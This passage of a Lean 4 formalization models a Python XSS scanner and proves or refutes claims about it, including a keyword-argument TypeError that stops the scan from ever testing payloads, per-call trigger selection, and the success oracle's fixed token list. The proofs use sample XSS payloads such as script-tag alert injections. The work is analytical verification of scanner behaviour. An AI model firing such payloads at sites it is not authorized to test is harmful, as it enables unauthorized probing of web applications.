(engine.py lines 247-286): for each detected context, call
`PayloadGenerator.generate` (one fresh random draw per call, `stream i`),
then test its payloads to the first success; an uncaught exception from
the `generate` call aborts the whole parameter scan (it propagates to
`future.result()` in `run`).  Returns the findings recorded (each one also
a `reporter.add_finding` call), in order. -/
def scanContexts (stream : Nat → Nat) (oracle : InjectionContext → Str → Option Str) :
    List InjectionContext → Nat → Except Str (List Finding)
  | [], _ => Except.ok []
  | ctx :: rest, i =>
      match engineGenerate (stream i) ctx with
      | Except.error e => Except.error e
      | Except.ok payloads =>
          match testContextLoop (oracle ctx) payloads with
          | some pr =>
              match scanContexts stream oracle rest (i + 1) with
              | Except.error e => Except.error e
              | Except.ok fs => Except.ok ((ctx, pr.1, pr.2) :: fs)
          | none => scanContexts stream oracle rest (i + 1)

/-- `XSSEngine.scan_parameter` (engine.py lines 212-291): zero findings
when the reflection test yields nothing, otherwise the per-context payload
loops. -/
def scan_parameter (stream : Nat → Nat)
    (reflection : Option (List InjectionContext))
    (oracle : InjectionContext → Str → Option Str) : Except Str (List Finding) :=
  match reflection with
  | none => Except.ok []
  | some ctxs => scanContexts stream oracle ctxs 0

/-! ## Helper lemmas -/

/-- The empty needle is a substring of every haystack (Python `"" in s`). -/
theorem isSubstr_nil (hay : Str) : isSubstr [] hay = true := by
  cases hay <;> rfl

/-- Membership in the detector fold from membership in any accumulated or
remaining detector contribution. -/
theorem mem_foldl_union (ds : List (Str → Str → Str → Finset InjectionContext))
    (h p c : Str) (acc : Finset InjectionContext) (x : InjectionContext)
    (hx : x ∈ acc ∨ ∃ d ∈ ds, x ∈ d h p c) :
    x ∈ ds.foldl (fun acc d => acc ∪ d h p c) acc := by
  induction ds generalizing acc with
  | nil =>
      rcases hx with hx | ⟨d, hd, _⟩
      · exact hx
      · cases hd
  | cons d0 rest ih =>
      apply ih
      rcases hx with hx | ⟨d, hd, hxd⟩
      · exact Or.inl (Finset.mem_union_left _ hx)
      · rcases List.mem_cons.mp hd with h' | hd'
        · exact Or.inl (Finset.mem_union_right _ (h' ▸ hxd))
        · exact Or.inr ⟨d, hd', hxd⟩

/-- A context contributed by any of the detectors belongs to the
accumulated classification. -/
theorem mem_runDetectors {d : Str → Str → Str → Finset InjectionContext}
    (hd : d ∈ detectors) (h p c : Str) (x : InjectionContext)
    (hx : x ∈ d h p c) : x ∈ runDetectors detectors h p c :=
  mem_foldl_union detectors h p c ∅ x (Or.inr ⟨d, hd, hx⟩)

/-! ## Claim theorems -/

/-- Claim C1: the orchestrator is claimed to fetch each detected context's
payload list, test payloads in order and stop at the first confirmed one.
In the source this never happens: the engine's call
`PayloadGenerator.generate(context=..., param_name=..., html_snippet=...,
response_snippet=...)` (engine.py lines 251-256) passes keyword arguments
that `generate` (payloads.py line 214, parameters `context, html_snippet`)
does not declare, so Python raises `TypeError` at the first detected
context, before any payload is fetched or tested; the per-parameter task
dies (the exception is caught around `future.result()` in `run`) and no
finding is ever recorded.  This theorem evaluates the embedded scan at
such an input: the keyword check fails, and a parameter whose probe
reflects in an HTML text node — even with an oracle that would confirm
every payload — produces the `TypeError`, not findings. -/
theorem C1_generate_call_type_error :
    keywordCallOk generateDeclaredParams engineGenerateCallKeywords = false ∧
    scan_parameter (fun _ => 0) (some [InjectionContext.HTML_TEXT])
        (fun _ _ => some (s2l "http://target/?q=payload"))
      = Except.error (s2l "TypeError: generate() got an unexpected keyword argument") :=
  ⟨rfl, rfl⟩

/-- Claim C2: if the probe is not a substring of the response body,
`detect_all` returns the empty set — no detector contributes any
context (analyzer.py lines 59-61, the short-circuit precedes every
detector). -/
theorem C2_classify_empty_on_absence (html probe ct : Str)
    (h : isSubstr probe html = false) : detect_all html probe ct = ∅ := by
  simp [detect_all, h]

/-- Witness for C2 at a concrete body and probe. -/
theorem C2_witness :
    isSubstr (s2l "XSS_PROBE_AB12CD34EF56") (s2l "<p>hello</p>") = false ∧
    detect_all (s2l "<p>hello</p>") (s2l "XSS_PROBE_AB12CD34EF56") (s2l "text/html") = ∅ :=
  ⟨by decide, C2_classify_empty_on_absence _ _ _ (by decide)⟩

/-- Claim C3 (as stated) is false: the trigger is NOT chosen once per
parameter-scan.  `generate` draws a fresh trigger on every call
(payloads.py line 226), i.e. once per context; in a run whose successive
draws differ (stream `fun i => i`), a parameter reflected in the contexts
HTML_TEXT and HTML_COMMENT gets payload lists with no single shared
trigger. -/
theorem C3_counterexample :
    ¬ ∃ t ∈ JS_TRIGGERS,
        ∀ l ∈ contextPayloadLists (fun i => i)
            [InjectionContext.HTML_TEXT, InjectionContext.HTML_COMMENT],
          ∀ p ∈ l, isSubstr t p = true := by decide

/-- Claim C3 (amended): the trigger is selected by uniform random choice
from `JS_TRIGGERS` once per payload-list generation — once per
(parameter, context) fetch, not once per parameter-scan — so every
template within a single generated list embeds that one call's trigger. -/
theorem C3_trigger_per_generate_call (r : Nat) (ctx : InjectionContext) :
    get_trigger r ∈ JS_TRIGGERS ∧
    ∀ p ∈ traditionalFor ctx (get_trigger r),
      ∃ f ∈ templateShapes ctx, p = f (get_trigger r) := by
  constructor
  · have h6 : ∀ k, k < 6 → JS_TRIGGERS.getD k [] ∈ JS_TRIGGERS := by decide
    have hlen : JS_TRIGGERS.length = 6 := rfl
    exact h6 _ (hlen ▸ Nat.mod_lt _ (by decide))
  · intro p hp
    rw [traditionalFor_eq_map] at hp
    obtain ⟨f, hf, rfl⟩ := List.mem_map.mp hp
    exact ⟨f, hf, rfl⟩

/-- Witness for C3 at a concrete draw, context and payload. -/
theorem C3_witness :
    ∃ f ∈ templateShapes InjectionContext.HTML_TEXT,
      s2l "<script>alert(1)</script>" = f (get_trigger 0) :=
  (C3_trigger_per_generate_call 0 InjectionContext.HTML_TEXT).2
    (s2l "<script>alert(1)</script>") (by decide)

/-- Claim C4 (as stated) is false: the oracle's vocabulary is not "any
`on<event>=` handler token".  The body `abc onmouseover=x` contains the
handler token `onmouseover=` and the payload `abc` verbatim, yet
`_test_payload`'s decision is false — its fixed list (engine.py
lines 199-202) contains only `onerror=`, `onload=`, `onfocus=`,
`onclick=`. -/
theorem C4_counterexample :
    isExploited (s2l "abc onmouseover=x") (s2l "abc") = false ∧
    isSubstr (s2l "onmouseover=") (lowerStr (s2l "abc onmouseover=x")) = true ∧
    isSubstr (s2l "abc") (s2l "abc onmouseover=x") = true := by decide

/-- Claim C4 (amended): the Success Oracle returns true exactly when the
case-insensitively compared body contains one of the nine fixed tokens
`alert(`, `alert` + backtick, `confirm(`, `prompt(`, `print(`, `onerror=`,
`onload=`, `onfocus=`, `onclick=` AND (the raw payload appears verbatim OR
its `&quot;`-encoded form is absent); on the concrete scenario, the
payload `"><script>alert(1)</script>` succeeds against a body containing
it literally, and fails against the `&quot;`-substituted body. -/
theorem C4_success_oracle :
    (∀ body payload, isExploited body payload = true ↔
      ((∃ tr ∈ engineTriggers, isSubstr (lowerStr tr) (lowerStr body) = true) ∧
       (isSubstr payload body = true ∨ isSubstr (replaceQuot payload) body = false))) ∧
    isExploited (s2l "\"><script>alert(1)</script>")
      (s2l "\"><script>alert(1)</script>") = true ∧
    isExploited (s2l "&quot;><script>alert(1)</script>")
      (s2l "\"><script>alert(1)</script>") = false := by
  refine ⟨?_, by decide, by decide⟩
  intro body payload
  by_cases hc : engineTriggers.any (fun tr => isSubstr (lowerStr tr) (lowerStr body)) = true
  · have hex : ∃ tr ∈ engineTriggers, isSubstr (lowerStr tr) (lowerStr body) = true := by
      rcases List.any_eq_true.mp hc with ⟨tr, htr, hp⟩
      exact ⟨tr, htr, hp⟩
    have hEq : isExploited body payload
        = (isSubstr payload body || ! isSubstr (replaceQuot payload) body) := by
      simp [isExploited, hc]
    rw [hEq]
    simp only [Bool.or_eq_true, Bool.not_eq_true']
    exact ⟨fun h => ⟨hex, h⟩, fun h => h.2⟩
  · have hnex : ¬ ∃ tr ∈ engineTriggers, isSubstr (lowerStr tr) (lowerStr body) = true := by
      intro h
      rcases h with ⟨tr, htr, hp⟩
      exact hc (List.any_eq_true.mpr ⟨tr, htr, hp⟩)
    have hEq : isExploited body payload = false := by
      simp [isExploited, hc]
    rw [hEq]
    constructor
    · intro h
      exact absurd h (by simp)
    · intro h
      exact absurd h.1 hnex

/-- Claim C5 (as stated) is false: on the body
`{"q":"XSS_PROBE_AB12CD34EF56"}` with contentType `application/json`, the
classifier does not return the singleton `{JSON_VALUE}` — the text-node
detector also fires, because the HTML parser sees the tag-free body as one
text node containing the probe. -/
theorem C5_counterexample :
    detect_all (s2l "\x7b\"q\":\"XSS_PROBE_AB12CD34EF56\"\x7d")
        (s2l "XSS_PROBE_AB12CD34EF56") (s2l "application/json")
      ≠ ({InjectionContext.JSON_VALUE} : Finset InjectionContext) := by
  intro h
  have heq : detect_all (s2l "\x7b\"q\":\"XSS_PROBE_AB12CD34EF56\"\x7d")
      (s2l "XSS_PROBE_AB12CD34EF56") (s2l "application/json")
      = ({InjectionContext.JSON_VALUE, InjectionContext.HTML_TEXT} :
          Finset InjectionContext) := rfl
  rw [heq] at h
  have hmem : InjectionContext.HTML_TEXT ∈
      ({InjectionContext.JSON_VALUE} : Finset InjectionContext) := by
    rw [← h]
    exact Finset.mem_insert.mpr (Or.inr (Finset.mem_singleton_self _))
  have : InjectionContext.HTML_TEXT = InjectionContext.JSON_VALUE :=
    Finset.mem_singleton.mp hmem
  exact absurd this (by simp)

/-- Claim C5 (amended): classifying the body
`{"q":"XSS_PROBE_AB12CD34EF56"}` with probe `XSS_PROBE_AB12CD34EF56` and
contentType `application/json` returns exactly
`{JSON_VALUE, HTML_TEXT}`: the JSON detector fires on the content type and
the text-node detector fires on the tag-free body; no other context is
reported. -/
theorem C5_json_body_contexts :
    detect_all (s2l "\x7b\"q\":\"XSS_PROBE_AB12CD34EF56\"\x7d")
        (s2l "XSS_PROBE_AB12CD34EF56") (s2l "application/json")
      = ({InjectionContext.JSON_VALUE, InjectionContext.HTML_TEXT} :
          Finset InjectionContext) := rfl

/-- Claim C6: every context maps to a fixed template list of 3 to 7
entries whose structure is deterministic (only the trigger varies:
each list is the per-context template shapes applied to the single
trigger of the call); the AI collaborator's output — at most 5 strings —
is appended strictly after the fixed templates; and the lookup succeeds
for every context of the closed enumeration, so the generic
single-template fallback branch of payloads.py line 243 is never taken
(it would yield exactly `[<script>{trigger}</script>]`). -/
theorem C6_payload_catalog (r : Nat) (ctx : InjectionContext) (enabled : Bool)
    (reply : Option (List Str)) :
    (3 ≤ (traditionalFor ctx (get_trigger r)).length ∧
     (traditionalFor ctx (get_trigger r)).length ≤ 7) ∧
    generate r ctx enabled reply
      = traditionalFor ctx (get_trigger r) ++ generate_ai_payloads enabled reply ∧
    (generate_ai_payloads enabled reply).length ≤ 5 ∧
    (∀ t, traditionalFor ctx t = (templateShapes ctx).map (fun f => f t)) ∧
    (payload_map ctx).isSome = true := by
  refine ⟨?_, rfl, ?_, fun t => traditionalFor_eq_map ctx t, ?_⟩
  · cases ctx <;>
      simp [traditionalFor, payload_map, html_text_payloads,
        double_quote_payloads, single_quote_payloads, unquoted_attr_payloads,
        attr_name_payloads, script_block_payloads, script_string_payloads,
        style_block_payloads, html_comment_payloads, json_payloads,
        url_param_payloads]
  · cases enabled with
    | false => simp [generate_ai_payloads]
    | true =>
        cases reply with
        | none => simp [generate_ai_payloads]
        | some lines => simp [generate_ai_payloads]
  · cases ctx <;> rfl

/-- Claim C7: a timeout or generic transport failure never raises and
never aborts the scan: `_send_request` returns `none` for both failure
kinds; `_test_reflection` and `_test_payload` treat the missing response
as "no reflection" / "not exploited" for that single request; and the
payload loop simply moves on past an attempt without a response. -/
theorem C7_transport_failure_recoverable :
    (∀ msg, send_request TransportOutcome.timeout = none ∧
            send_request (TransportOutcome.failure msg) = none) ∧
    (∀ probe listing msg,
      test_reflection TransportOutcome.timeout probe listing = none ∧
      test_reflection (TransportOutcome.failure msg) probe listing = none) ∧
    (∀ payload msg,
      test_payload TransportOutcome.timeout payload = none ∧
      test_payload (TransportOutcome.failure msg) payload = none) ∧
    (∀ (oracle : Str → Option Str) (p : Str) (rest : List Str),
      oracle p = none →
      testContextLoop oracle (p :: rest) = testContextLoop oracle rest) := by
  refine ⟨fun msg => ⟨rfl, rfl⟩, fun probe listing msg => ⟨rfl, rfl⟩,
    fun payload msg => ⟨rfl, rfl⟩, ?_⟩
  intro oracle p rest h
  simp [testContextLoop, h]

/-- Witness for C7 at a concrete payload and a transport that fails. -/
theorem C7_witness :
    test_payload TransportOutcome.timeout (s2l "x") = none ∧
    testContextLoop (fun _ => none) [s2l "x"] = testContextLoop (fun _ => none) [] :=
  ⟨(C7_transport_failure_recoverable.2.2.1 (s2l "x") []).1,
   C7_transport_failure_recoverable.2.2.2 (fun _ => none) (s2l "x") [] rfl⟩

/-- Claim C8: classification is deterministic and order-independent: the
detectors' contributions are combined by set union, so running them in any
order (any permutation of the detector list) yields the same set, and
re-running classification on the same triple yields the identical set. -/
theorem C8_classification_order_independent :
    (∀ ds h p c, ds.Perm detectors →
      runDetectors ds h p c = runDetectors detectors h p c) ∧
    (∀ h p c, detect_all h p c = detect_all h p c) := by
  refine ⟨?_, fun _ _ _ => rfl⟩
  intro ds h p c hperm
  haveI : RightCommutative (fun (acc : Finset InjectionContext)
      (d : Str → Str → Str → Finset InjectionContext) => acc ∪ d h p c) :=
    ⟨fun b a₁ a₂ => Finset.union_right_comm b (a₁ h p c) (a₂ h p c)⟩
  exact hperm.foldl_eq ∅

/-- Witness for C8: the reversed detector order classifies a concrete
input identically. -/
theorem C8_witness :
    runDetectors detectors.reverse (s2l "<p>X</p>") (s2l "X") (s2l "text/html")
      = runDetectors detectors (s2l "<p>X</p>") (s2l "X") (s2l "text/html") :=
  C8_classification_order_independent.1 detectors.reverse _ _ _
    (List.reverse_perm detectors)

/-- Claim C9: `_generate_probe` always succeeds (the embedding is a total
function of the random draws) and returns the fixed prefix `XSS_PROBE_`
followed by exactly 12 characters (hence at least 12), each drawn from the
36-character alphabet of uppercase letters and digits. -/
theorem C9_probe_generator (stream : Nat → Nat) :
    (generate_probe stream).take 10 = s2l "XSS_PROBE_" ∧
    (generate_probe stream).length = 22 ∧
    12 ≤ ((generate_probe stream).drop 10).length ∧
    ∀ c ∈ (generate_probe stream).drop 10, c ∈ probeAlphabet := by
  have hpre : (s2l "XSS_PROBE_").length = 10 := rfl
  refine ⟨?_, ?_, ?_, ?_⟩
  · rw [generate_probe, ← hpre, List.take_left]
  · simp [generate_probe]
    exact hpre
  · rw [generate_probe, ← hpre, List.drop_left]
    simp
  · rw [generate_probe, ← hpre, List.drop_left]
    intro c hc
    obtain ⟨i, _, rfl⟩ := List.mem_map.mp hc
    have h36 : ∀ k, k < 36 → probeAlphabet.getD k 'A' ∈ probeAlphabet := by decide
    have hlen : probeAlphabet.length = 36 := rfl
    exact h36 _ (hlen ▸ Nat.mod_lt _ (by decide))

/-- Witness for C9 at a concrete stream of draws and a concrete suffix
character. -/
theorem C9_witness :
    (generate_probe (fun _ => 0)).take 10 = s2l "XSS_PROBE_" ∧
    'A' ∈ probeAlphabet :=
  ⟨(C9_probe_generator (fun _ => 0)).1,
   (C9_probe_generator (fun _ => 0)).2.2.2 'A' (by decide)⟩

/-- Claim C10: with an empty probe the probe-absent short-circuit never
fires (the empty string is a substring of every body), and for any body
whose contentType contains "json" the classifier returns a non-empty set
(JSON_VALUE is reported) even though no injected marker is present. -/
theorem C10_empty_probe_nonempty (body ct : Str)
    (h : isSubstr (s2l "json") (lowerStr ct) = true) :
    isSubstr [] body = true ∧
    InjectionContext.JSON_VALUE ∈ detect_all body [] ct ∧
    detect_all body [] ct ≠ ∅ := by
  have hmem : InjectionContext.JSON_VALUE ∈ detect_all body [] ct := by
    simp only [detect_all, isSubstr_nil, not_true_eq_false, if_false]
    exact mem_runDetectors (d := detect_json) (by simp [detectors]) body []
      (lowerStr ct) InjectionContext.JSON_VALUE (by simp [detect_json, h])
  exact ⟨isSubstr_nil body, hmem, Finset.ne_empty_of_mem hmem⟩

/-- Witness for C10 at a concrete body and a json content type. -/
theorem C10_witness :
    isSubstr [] (s2l "\x7b\"ok\":true\x7d") = true ∧
    InjectionContext.JSON_VALUE ∈
      detect_all (s2l "\x7b\"ok\":true\x7d") [] (s2l "application/json") ∧
    detect_all (s2l "\x7b\"ok\":true\x7d") [] (s2l "application/json") ≠ ∅ :=
  C10_empty_probe_nonempty (s2l "\x7b\"ok\":true\x7d") (s2l "application/json")
    (by decide)

end XSSScanner
